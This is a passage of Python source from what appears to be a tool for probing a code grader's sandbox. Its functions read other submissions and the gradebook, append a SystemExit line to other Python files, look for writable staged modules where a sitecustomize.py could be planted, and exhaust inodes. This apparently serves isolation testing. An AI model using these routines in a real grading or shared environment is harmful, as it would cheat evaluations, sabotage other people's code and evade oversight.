    """List and read everything of the other submissions and of the gradebook that is in reach,
    for up to ``wait_s`` (the other submission is graded meanwhile); sabotage what can be."""
    needle = "".join(config["needle"]).encode()  # in parts: not found in this very file
    found, listed, wrote = [], {}, []
    deadline = time.monotonic() + wait_s
    allowed = [*config["folders"], os.path.dirname(os.getcwd())]
    if sys.path:
        allowed.append(os.path.dirname(os.path.dirname(sys.path[0])))
    # ol's temporary folder as seen from the run folder and the staged copy, never a top folder
    allowed = [a for a in allowed if len([p for p in a.split("/") if p]) >= 3]
    folders = list(allowed)
    for pid in pids():  # other processes' folders, where they lie in ol's or the test's folders
        if allowed and _readlink(f"/proc/{pid}/cwd").startswith(tuple(allowed)):
            folders += [f"/proc/{pid}/cwd", f"/proc/{pid}/cwd/.."]
    while time.monotonic() < deadline and not found:
        for folder in dict.fromkeys(folders):
            names = _listdir(folder)
            if names:
                listed[folder] = sorted(names)[:12]
            for top, _, files in _walk(folder, max_depth=7, max_entries=4000):
                for name in files:
                    path = os.path.join(top, name)
                    try:
                        data = _read(path, 1 << 20)
                    except OSError:
                        continue
                    if needle not in data:
                        continue
                    line = next(x for x in data.splitlines() if needle in x)  # exfiltrated
                    if path not in [f[0] for f in found]:
                        found.append([path, line[:100].decode("utf-8", "replace")])
                    if config.get("sabotage") and path.endswith(".py"):
                        try:
                            with open(path, "a") as f:
                                f.write("\nraise SystemExit('sabotaged by olview')\n")
                            wrote.append(path)
                        except OSError:
                            pass
        time.sleep(0.2)
    return {"found": found[:3], "listed": dict(list(listed.items())[:12]), "wrote": wrote[:4]}


def _walk(top: str, max_depth: int, max_entries: int):
    """os.walk without following links, bounded in depth and entries."""
    count = 0
    stack = [(top, 0)]
    while stack and count < max_entries:
        folder, depth = stack.pop()
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        files = []
        for entry in entries:
            count += 1
            try:
                if entry.is_dir(follow_symlinks=False):
                    if depth < max_depth:
                        stack.append((entry.path, depth + 1))
                elif entry.is_file(follow_symlinks=False):
                    files.append(entry.name)
            except OSError:
                continue
        yield folder, [], files


# -- exfiltration of ol's own files (the --mine suites) -------------------------------------------

def exfiltrate(rels: list[str]) -> dict:
    """Find the checkout by every route and read ``rels`` below it: their sha256 and first line."""
    found, _, tried = find_correct()
    if found is None:
        return {"root": None, "tried": tried}
    root = found["root"] + "/"
    files = {}
    for rel in rels:
        for path in sorted(glob.glob(root + rel))[:2]:
            try:
                data = _read(path)
            except OSError as exc:
                files[path] = _errname(exc)
                continue
            files[path[len(root):]] = {"sha256": sha(data), "head": data[:60].decode("utf-8", "replace")}
    return {"root": root, "route": found["route"], "files": files}


# -- descriptors and the staged copy ---------------------------------------------------------------

def descriptors(config: dict) -> dict:
    """What every inherited descriptor is; those that name a path this process cannot reach by
    that path (a file or folder outside its root: a way out); whether one leads to ol's
    checkout."""
    targets, outside = {}, []
    for fd in _fds():
        target = targets[fd] = _readlink(f"/proc/self/fd/{fd}")
        if not target.startswith("/") or target.startswith("/memfd:"):
            continue  # a pipe, socket, anonymous inode or memfd: no path
        try:
            held = os.stat(f"/proc/self/fd/{fd}")
            same = os.stat(target)
            if (held.st_dev, held.st_ino) == (same.st_dev, same.st_ino):
                continue
        except OSError:
            pass
        outside.append(target)
    return {"targets": targets, "outside": outside, "found": find_correct(["fds"])[0]}


def staged(config: dict) -> dict:
    """Whether the staged copy can be changed: its modules rewritten (a later worker of the same
    check would import them), a ``sitecustomize.py`` or ``.pth`` planted beside them."""
    token = config["token"]
    writable = []
    module = sys.modules.get("tinyllm.prob.rejection")
    existing = [getattr(module, "__file__", None) or "", __file__]
    for path in existing:
        try:
            with open(path, "r+b"):  # opened for writing, nothing written
                writable.append(path)
        except OSError:
            pass
    top = sys.path[0] if sys.path else ""
    for folder in {top, os.path.dirname(os.path.abspath(__file__)), os.path.dirname(existing[0])}:
        if folder and _can_create(folder, token):
            writable.append(folder)
    return {"writable": writable}


# -- inodes ----------------------------------------------------------------------------------------

def flood(token: str, cap: int = 150000, budget_s: float = 2.0) -> dict:
    """Empty files in the run folder until it refuses one (or ``cap`` files, or the time budget):
    they cost no bytes of a size cap, but an inode and a dentry of kernel memory each."""
    folder = f"olview-flood-{token}"
    os.mkdir(folder)
    fd = os.open(folder, os.O_RDONLY)
    made, stop = 0, "cap"
    deadline = time.monotonic() + budget_s
    try:
        while made < cap:
            if made % 4096 == 0 and time.monotonic() > deadline:
                stop = "time"
                break
            try:
                os.close(os.open(str(made), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600, dir_fd=fd))
            except OSError as exc:
                stop = _errname(exc)
                break
            made += 1
    finally:
        os.close(fd)
    vfs = os.statvfs(".")
    return {"files": made, "stop": stop, "inodes": vfs.f_files, "fstype": _mount_of(os.getcwd())[1]}
